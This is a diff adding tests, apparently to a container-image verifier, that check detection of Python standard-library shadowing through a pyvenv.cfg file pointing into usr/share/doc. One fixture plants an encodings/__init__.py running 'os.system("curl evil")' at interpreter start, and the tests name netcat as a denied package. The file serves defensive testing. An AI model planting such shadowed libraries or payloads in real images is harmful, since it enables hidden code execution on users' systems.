@@ -394,3 +394,70 @@ describe('verify IMAGE: a denied OS package under another os-release', () => {
     expect(r.check('packages')?.detail).toMatch(/netcat-openbsd@1\.0-1/);
   });
 });
+
+describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
+  // Debian's Python, its interpreter and standard library checked against dpkg's md5sums.
+  const PYTHON = elf('python3.11');
+  const OS_PY = 'import abc\n';
+  const python: TarEntry[] = [
+    ...DPKG,
+    file(
+      'var/lib/dpkg/status',
+      'Package: python3.11-minimal\nStatus: install ok installed\nVersion: 3.11.2-6\nArchitecture: amd64\n'
+    ),
+    file(
+      'var/lib/dpkg/info/python3.11-minimal.list',
+      '/.\n/usr\n/usr/bin\n/usr/bin/python3.11\n/usr/lib\n/usr/lib/python3.11\n/usr/lib/python3.11/os.py\n'
+    ),
+    file(
+      'var/lib/dpkg/info/python3.11-minimal.md5sums',
+      `${md5(PYTHON)}  usr/bin/python3.11\n${md5(Buffer.from(OS_PY))}  usr/lib/python3.11/os.py\n`
+    ),
+    wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
+    wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
+    dir('usr'),
+    dir('usr/bin'),
+    wh('usr/bin/.wh.nc'),
+    file('usr/bin/python3.11', PYTHON, 0o755),
+    dir('usr/lib'),
+    dir('usr/lib/python3.11'),
+    file('usr/lib/python3.11/os.py', OS_PY),
+  ];
+  // A standard library of its own, as data: encodings runs at every start of the interpreter.
+  const hidden = (at: string): TarEntry[] => [
+    dir(`${at}`),
+    dir(`${at}/lib`),
+    dir(`${at}/lib/python3.11`),
+    dir(`${at}/lib/python3.11/encodings`),
+    file(`${at}/lib/python3.11/os.py`, OS_PY),
+    file(`${at}/lib/python3.11/encodings/__init__.py`, 'import os; os.system("curl evil")\n'),
+  ];
+  const doc = [dir('usr/share'), dir('usr/share/doc'), ...hidden('usr/share/doc/x')];
+  const run = ['/usr/bin/python3.11', '/var/task/app.py'];
+
+  it('the control: a virtual environment of the OS Python (home = /usr/bin) passes', async () => {
+    const venv = [
+      ...['opt', 'opt/venv', 'opt/venv/bin'].map(dir),
+      link('opt/venv/bin/python3', '/usr/bin/python3.11'),
+      file('opt/venv/pyvenv.cfg', 'home = /usr/bin\ninclude-system-site-packages = false\n'),
+    ];
+    const r = await verify([...python, ...doc, ...venv], undefined, ['/opt/venv/bin/python3']);
+    expect(r.check('inventory:complete')?.outcome).toBe('pass');
+    expect(r.code).toBe(0);
+    // The same standard library, unused, is data.
+    expect((await verify([...python, ...doc], undefined, run)).code).toBe(0);
+  });
+
+  it.each([
+    [
+      'beside the interpreter (usr/bin/pyvenv.cfg)',
+      'usr/bin/pyvenv.cfg',
+      'home = /usr/share/doc/x/bin\n',
+    ],
+    ['one directory up (usr/pyvenv.cfg)', 'usr/pyvenv.cfg', 'HOME=/usr/share/doc/x\n'],
+  ])('one %s naming a standard library in data fails inventory:complete', async (_n, at, cfg) => {
+    const r = await verify([...python, ...doc, file(at, cfg)], undefined, run);
+    expect(r.code).toBe(1);
+    expect(r.check('inventory:complete')?.detail).toContain(`STDLIB_SHADOWED ${at}`);
+  });
+});
